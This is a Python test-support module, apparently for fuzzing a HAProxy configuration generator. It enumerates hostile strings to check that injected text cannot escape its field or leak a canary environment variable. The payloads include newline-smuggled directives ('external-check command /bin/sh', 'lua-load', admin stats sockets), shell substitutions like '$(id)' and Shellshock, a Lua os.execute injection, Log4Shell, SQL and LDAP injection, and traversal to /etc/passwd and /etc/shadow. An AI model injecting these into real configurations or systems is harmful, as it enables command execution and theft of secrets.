"""The one place for texts that try to leave their field: every trick of reliability §5's corpus, and what broke others.

`CANARY` is the name of a variable that every tested engine has in its environment; its value may never come out.
"""

from __future__ import annotations

CANARY = "GURNEY_CANARY"
VALUE = "canary-7c1f5e"

_LINE_ENDS = ("\n", "\r", "\r\n", "\u0085", "\u2028", "\u2029", "\v", "\f", "\0", "\x1b", "\x7f", "\\n", "\\r\\n", "%0a", "%0d%0a", "&#10;")
_STATEMENTS = (
    "bind *:9",
    "lua-load /tmp/x.lua",
    "external-check command /bin/sh",
    "stats socket /tmp/x level admin",
    "http-request return status 200 string owned",
    "server evil 192.0.2.1:80",
    "setenv A B",
    "program evil",
    "insecure-fork-wanted",
    "errorfile 503 /etc/passwd",
)
_EXPANSIONS = (
    f"%[env({CANARY})]",
    f"%%[env({CANARY})]",
    f"${{{CANARY}}}",
    f"${CANARY}",
    f'"${{{CANARY}}}"',
    f'"$({CANARY})"',
    f"%[env({CANARY}),lower]",
    "%[src]",
    "%[req.hdr(host)]",
    "%[var(txn.x)]",
    "%[http_auth_pass]",
    "%{+Q}o",
    "%ci",
    "%%",
    "%",
    "%[",
    "%]",
    "%[lua.x]",
    "%[env(",
)
_QUOTES = (
    "'",
    '"',
    "''",
    '""',
    "'\"",
    "\\'",
    '\\"',
    "\\",
    "\\\\",
    "' ",
    " '",
    "'#",
    "';",
    "`id`",
    "$(id)",
    "'\\''",
    "\\x27",
    "'+'",
    "''''",
)
_MARKS = ("#", " # ", ";", "{", "}", "{}", "{ always_true }", "if TRUE", "unless FALSE", "|| TRUE", "or TRUE", "!TRUE", "&&", "|", "<", ">")
_FLAGS = ("-f", "-f /etc/passwd", "-m reg .*", "-M", "--", "-i", "-n", "-u 1", "-m", "-- x", "-m beg", "-f\t/etc/shadow")
_SPACES = (" ", "  ", "\t", " a", "a ", "a b", "a\tb", "\u00a0", "\u2003", "\u200b", "\ufeff", "\u202e", "\u2066", "\u00ad")
_DIGITS = ("٣", "１２３", "²", "1_000", "0x10", "1e3", "+1", "-1", "01", "1 ", "1\n", "٠")
_LETTERS = ("é", "e\u0301", "ä", "ß", "ı", "İ", "ﬀ", "\ud800", "\U0001f600", "ａ", "а")
_PATHS = (
    "../../etc/passwd",
    "/etc/shadow",
    "..",
    ".",
    "a/../b",
    "~root",
    "file:///etc/passwd",
    "a\0b",
    "//x",
    "current/x",
    "run/admin.sock",
    "CON",
)
_CODE = (
    "')..os.execute('id')..('",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "<script>",
    "'; DROP TABLE x; --",
    "(){ :;}; id",
    "*)(uid=*",
    "|id",
    "%n%n",
)
_PATTERNS = (".*", "(", ")", "[", "]", "(?i)", "a|b", "^", "$", "a{1,99999}", "(a+)+$", "\\Qx", "[[:alpha:]]", "?", "*", "**", "*.*", "\\d")
_WORDS = (
    "default_backend",
    "use_backend",
    "acl",
    "backend x",
    "global",
    "defaults",
    "frontend",
    "listen",
    "TRUE",
    "FALSE",
    "if",
    "unless",
    "or",
)
_LONG = ("a" * 1025, "a" * 65536, "%[" * 500, "'" * 300, "\\" * 300, "." * 300, "*." * 200)


def payloads() -> tuple[str, ...]:
    """Every hostile text, each once; more than 150."""
    injected = tuple(f"x{end}{statement}" for end in _LINE_ENDS[:9] for statement in _STATEMENTS)
    trailing = tuple(f"{base}{end}" for base in ("x", "10.0.0.1", "/a", "a.example.org") for end in _LINE_ENDS)
    kinds = (_LINE_ENDS, _EXPANSIONS, _QUOTES, _MARKS, _FLAGS, _SPACES, _DIGITS, _LETTERS, _PATHS, _CODE, _PATTERNS, _WORDS, _LONG)
    alone = tuple(text for kind in kinds for text in kind)
    inside = tuple(form % text for form in ("/%s", "a%sb") for text in (*_EXPANSIONS, *_QUOTES, *_MARKS))
    return tuple(dict.fromkeys(("", *alone, *injected, *trailing, *inside)))
